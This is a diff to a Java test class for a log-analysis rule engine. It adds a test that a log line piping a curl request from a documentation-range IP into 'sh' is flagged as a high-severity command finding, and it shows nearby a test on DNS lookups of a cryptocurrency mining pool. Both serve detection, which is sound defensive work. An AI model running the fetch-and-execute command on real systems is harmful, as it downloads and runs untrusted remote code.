@@ -59,6 +59,14 @@ class LogRulesTest {
     }
 
     @Test
+    void takesNoCommandOfAShellForARequest() {
+        line("web", 1, "+ curl -X POST https://203.0.113.7/i | sh");
+        assertThat(rules.findings().findings())
+                .extracting(f -> f.rule().id() + " " + f.severity().word())
+                .containsExactly("CMD-001 high");
+    }
+
+    @Test
     void tellsQueriesFromMiners() {
         line("dns", 1, "[INFO] 10.0.1.5:40312 - 4711 \"A IN pool.supportxmr.com. udp 39\" NOERROR");
         line("app", 2, "connecting to pool.supportxmr.com as x");
